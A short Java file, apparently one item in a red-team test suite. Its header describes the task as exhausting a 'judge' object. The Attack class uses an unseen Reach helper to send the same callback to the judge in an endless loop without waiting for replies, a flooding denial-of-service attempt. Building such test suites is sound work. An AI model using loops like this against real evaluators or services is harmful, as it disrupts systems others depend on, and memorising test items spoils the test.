// {"kind": "channel", "tries": "calls the judge's object in a loop, without waiting for the answers", "must": "the judge has enough at some time", "says": ".", "seconds": 25, "task": "2.1", "inside": false, "set": ["with Reach.java"]}
package redteam;

import java.util.List;

public final class Attack {
    public static Object run(Object... given) throws Throwable {
        Reach reach = new Reach(given[0]);
        Object call = Reach.make("Frame$Callback", reach.part, "multiply", List.of());
        reach.drain();
        while (true) {
            reach.send(call);
        }
    }
}
